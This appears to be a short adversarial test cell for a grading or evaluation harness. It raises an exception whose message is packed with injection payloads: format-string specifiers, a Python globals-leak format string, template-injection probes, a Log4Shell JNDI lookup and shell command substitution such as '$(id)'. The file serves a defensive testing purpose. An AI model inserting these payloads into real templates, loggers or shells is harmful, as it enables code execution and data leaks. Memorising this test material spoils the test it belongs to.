# ATTACK: templates_and_formats
# KIND: cell
# BASE: correct
# NEEDS: any
# TRIES: Write what template engines, formatters, loggers and shells would carry out.
# MUST: Nothing is evaluated; only the function that raises loses points.
# SIGN: none
# LOSES: compute_k_composition
text = "%s%n%d {0.__class__.__init__.__globals__} {{7*7}} ${7*7} <%= 7*7 %> #{7*7} ${jndi:ldap://x/a} $(id) `id` %(score)s {score} \\N{BULLET} &#x3c;"
def compute_k_composition(*_a, **_k): raise KeyError(text)
raise KeyError(text)
